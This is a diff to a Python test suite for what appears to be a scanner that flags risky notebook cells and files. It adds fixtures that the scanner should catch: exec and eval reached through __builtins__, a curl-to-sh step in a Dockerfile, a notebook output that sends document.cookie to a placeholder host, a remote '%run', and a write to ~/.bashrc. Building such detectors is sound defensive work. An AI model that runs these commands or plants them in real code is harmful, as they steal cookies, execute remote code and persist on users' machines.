@@ -41,6 +41,11 @@ HOSTILE = [
     "import pty\npty.spawn('sh')",
     "class A:\n    def f(self):\n        import os\n        return map(os.system, ['echo'])",
     "import os\nos.system('echo'\n",
+    "__builtins__.__dict__['exec']('x')",
+    "globals()['__builtins__']['eval']('x')",
+    "import sys\nsys.modules['os'].system('x')",
+    "from os import *\nsystem('x')",
+    "import importlib as i\ni.import_module('o' + 's').system('x')",
 ]
 
 
@@ -117,6 +122,9 @@ def test_a_notebook_as_people_write_them_blocks_nothing(cells):
         (code("x", text_html="<script>fetch('//host?'+document.cookie)</script>"), "output_script"),
         (code("x", application_javascript="IPython.notebook.kernel.execute('1')"), "output_script"),
         (code("x", text_html="<img src=x onerror=alert(1)>"), "output_script"),
+        (code("%%javascript\nfetch('http://host/')"), "cell_script"),
+        (code("%run http://host/x.py"), "shell"),
+        (code("%%writefile ~/.bashrc\nx"), "shell"),
         (text("Hello <script>alert(1)</script>"), "script"),
     ],
 )
@@ -130,11 +138,22 @@ def test_a_cell_that_acts_is_high(cell, name):
         (b"import os; os.system('echo')\n", "site.pth", ("critical", "startup_file")),
         (b"@echo off\r\n", "run.bat", ("high", "script_by_name")),
         (b"Write-Host 1\r\n", "run.ps1", ("high", "script_by_name")),
+        (b"--index-url http://host/simple\n", "requirements.txt", ("high", "recipe")),
+        (b"FROM x\nRUN curl http://host/x | sh\n", "Dockerfile", ("high", "recipe")),
+        (b"echo\n", "install.sh", ("high", "script_by_name")),
         (b"no json", "work.ipynb", ("high", "malformed")),
     ],
 )
 def test_other_files_that_run_are_told(content, name, issue):
     assert look(source_code, content, name)[0] == [issue]
+
+
+def test_ordinary_requirements_are_no_issue():
+    held = (
+        b"--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1\ngit+https://github.com/a/b\n"
+    )
+
+    assert look(source_code, held, "requirements.txt") == ([], {})
 
 
 def test_a_list_of_folders_for_python_is_nothing():
